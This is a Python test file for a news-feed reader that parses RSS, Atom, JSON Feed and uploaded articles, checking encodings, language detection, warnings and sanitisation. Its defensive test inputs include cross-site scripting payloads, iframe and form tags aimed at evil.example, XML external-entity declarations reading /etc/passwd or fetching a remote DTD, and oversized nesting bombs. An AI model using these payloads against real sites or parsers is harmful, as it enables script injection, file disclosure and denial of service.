"""Feeds and articles as the world writes them: PC-01's kinds of trouble, and feeds that mean harm."""

import json
import time

import pytest

from tasks.content.sources.reading import MOST_BYTES, MOST_ITEMS, read_source
from tasks.errors import Corrupt, TooLarge, Unsupported
from tests.tasks.content.newsroom import entry, rss

ATOM = """<feed xmlns="http://www.w3.org/2005/Atom" xml:lang="fr" xml:base="https://news.example/x/">
<link href="https://news.example/"/><entry><id>tag:1</id><title type="html">Une &lt;i&gt;baleine&lt;/i&gt;</title>
<link href="../y"/><updated>2029-11-01T00:00:00Z</updated><category term="oceans"/>
<content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Bonjour <b>le</b> monde</p></div></content></entry>
"""


def test_an_article_of_rss_has_all_that_its_source_says() -> None:
    more = "<category>Oceans</category><enclosure url='/a.jpg' type='image/jpeg'/><guid>7</guid>"

    (found,) = read_source(
        rss(entry("A whale", "http://www.example.com/a/?utm_source=x#top", more=more))
    ).drafts

    assert (found.guid, found.address) == ("7", "https://example.com/a")
    assert (found.title, found.text, found.lang) == ("A whale", "The whale and the sea.", "en")
    assert found.published_at is not None
    assert found.published_at.isoformat() == "2019-12-31T10:00:00+00:00"
    assert found.categories == ["Oceans"]
    assert [each.address for each in found.media] == ["https://example.com/a.jpg"]
    assert found.warnings == []


def test_an_entry_of_atom_has_its_own_language_base_and_markup() -> None:
    (found,) = read_source(f"{ATOM}</feed>".encode()).drafts

    assert (found.title, found.address, found.lang) == ("Une baleine", "https://news.example/y", "fr")
    assert found.html == "<p>Bonjour <b>le</b> monde</p>"
    assert found.categories == ["oceans"]


def test_a_feed_that_breaks_off_gives_what_came_before() -> None:
    assert len(read_source(f"{ATOM}<entry><title>broken".encode()).drafts) == 1


def test_a_json_feed_is_read_and_what_does_not_fit_in_it_is_missing() -> None:
    items = [
        {
            "id": 1,
            "title": "a < b",
            "content_text": "x\ud800 & y",
            "url": "https://e.example/1",
            "tags": [1, "space"],
        },
        {
            "id": "2",
            "title": 5,
            "content_html": "<p>Hello</p>",
            "date_published": "yesterday",
            "attachments": 7,
        },
        "no entry",
    ]
    feed = {"version": "https://jsonfeed.org/version/1.1", "items": items}

    first, second = read_source(json.dumps(feed).encode()).drafts

    assert (first.guid, first.title, first.text, first.categories) == ("1", "a < b", "x? & y", ["space"])
    assert (second.title, second.published_at) == ("Hello", None)


def test_an_uploaded_article_is_json_or_a_page() -> None:
    article = {
        "kind": "article",
        "title": "A star",
        "text": "First.\n\nSecond.",
        "pictures": ["media/a.jpg", "../x"],
    }

    (written,) = read_source(json.dumps(article).encode()).drafts
    (page,) = read_source(
        b"<!DOCTYPE html><title>T</title><h1>A star</h1><article><p>Text</p></article>", "a.html"
    ).drafts

    assert written.html == "<p>First.</p><p>Second.</p>"
    assert [each.key for each in written.media] == ["media/a.jpg"]
    assert (page.guid, page.title, page.html) == ("a.html", "A star", "<p>Text</p>")


@pytest.mark.parametrize(
    "harm",
    [
        "<script>alert(1)</script>",
        "<p onclick=alert(1)>x</p>",
        "<img src=x onerror=alert(1)>",
        "<a href='javascript:alert(1)'>x</a>",
        "<a href=' java&#10;script:alert(1)'>x</a>",
        "<svg><script>alert(1)</script></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<iframe src=https://evil.example></iframe>",
        "<p style='background:url(https://evil.example)'>x</p>",
        "<form action=https://evil.example><input></form>",
        "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
        "<scr<script>ipt>alert(1)</script>",
    ],
)
def test_markup_that_means_harm_is_gone(harm: str) -> None:
    (found,) = read_source(rss(entry(harm or "x", html=harm + "<b>kept</b>"))).drafts

    shown = found.html.lower().replace("&lt;", "")
    assert not [word for word in ("<script", "<img", "<svg", "<iframe", "<form", "<style") if word in shown]
    assert not [
        word for word in ('href="java', "onclick=", "style=") if word in found.html.lower().split("&lt;")[0]
    ]
    assert "<" not in found.title.replace("< ", "")


@pytest.mark.parametrize(
    "declared",
    [
        '<!ENTITY a "aaaa">',
        '<!ENTITY a SYSTEM "file:///etc/passwd">',
        '<!ENTITY % a SYSTEM "http://evil.example/x.dtd">',
    ],
)
def test_a_feed_that_declares_entities_is_refused(declared: str) -> None:
    head = f"<?xml version='1.0'?><!DOCTYPE rss [{declared}]>"

    with pytest.raises(Unsupported, match="declares entities"):
        read_source(rss(entry("&a;"), head=head))


def test_a_doctype_of_old_rss_is_not_fetched_and_does_no_harm() -> None:
    head = "<!DOCTYPE rss PUBLIC '-//Netscape//DTD RSS 0.91//EN' 'http://my.netscape.example/rss-0.91.dtd'>"

    assert len(read_source(rss(entry(), head=head)).drafts) == 1


@pytest.mark.parametrize(
    "made",
    [
        b"<rss version='2.0'><channel>" + b"<item>" * 200_000,
        b"<rss><channel><item><title>" + b"<b>" * 500_000,
        b"<rss><channel><item><description>"
        + b"&lt;div&gt;" * 400_000
        + b"</description></item></channel></rss>",
        b"<rss " + b" ".join(b"a%d='1'" % n for n in range(100_000)) + b"/>",
        b"<p>" * 1_000_000,
        b"<rss><channel>" + b"<item><title>a</title></item>" * 100_000 + b"</channel></rss>",
    ],
    ids=["nested items", "nested tags", "nested markup", "attributes", "paragraphs", "many items"],
)
def test_a_huge_feed_takes_neither_long_nor_too_much(made: bytes) -> None:
    begin = time.process_time()

    found = read_source(made)

    assert len(found.drafts) <= MOST_ITEMS
    assert time.process_time() - begin < 2


@pytest.mark.parametrize(
    ("data", "error"),
    [
        (b"x" * (MOST_BYTES + 1), TooLarge),
        (b"", Corrupt),
        (b" \n", Corrupt),
        (b"hello", Unsupported),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", Unsupported),
        (b"{", Corrupt),
        (b"[" * 100_000, Corrupt),
        (b'{"a": ' * 100_000, Corrupt),
        (b'{"a": 1}', Unsupported),
        (b"[1]", Unsupported),
        (b'{"kind": "article", "title": "\xff"}', Corrupt),
        (b"\xff\xfe\x00\xd8", Corrupt),
    ],
)
def test_what_is_no_source_is_refused_by_name(data: bytes, error: type[Exception]) -> None:
    with pytest.raises(error):
        read_source(data)


@pytest.mark.parametrize(
    ("head", "encoding"),
    [
        ("<?xml version='1.0' encoding='utf-8'?>", "cp1252"),
        ("<?xml version='1.0' encoding='iso-8859-1'?>", "iso-8859-1"),
        ("<?xml version='1.0' encoding='iso-8859-1'?>", "utf-8"),
        ("<?xml version='1.0' encoding='no-such'?>", "cp1252"),
        ("<?xml version='1.0' encoding='utf-16'?>", "utf-16"),
        ("<?xml version='1.0' encoding='utf-8'?>", "utf-8-sig"),
        ("", "cp1252"),
    ],
)
def test_a_feed_is_read_whatever_it_says_of_its_encoding(head: str, encoding: str) -> None:
    data = rss(entry("Bären für Köln"), head=head).decode().encode(encoding)

    assert read_source(data).drafts[0].title == "Bären für Köln"


def test_an_article_that_says_nothing_is_left_out_and_one_without_a_title_is_called_by_its_text() -> None:
    found = read_source(rss(entry("", html=""), entry("", html="<p>Only a text.</p>")))

    assert [each.title for each in found.drafts] == ["Only a text."]
    assert found.warnings == ["1 entries say nothing"]


def test_what_is_wrong_with_an_article_is_said() -> None:
    german = "<p>Der Hund und die Katze sind nicht in dem Haus mit dem Kind.</p>"

    (found,) = read_source(rss(entry("<b>T</b>", "ftp://x.example", html=german, date="gestern"))).drafts

    assert found.lang == "de"
    assert found.published_at is None
    assert found.warnings == [
        "the title was written with markup or was too long",
        "the source gives an address that is none of the web",
        "the source says that its language is en, and it is de",
    ]
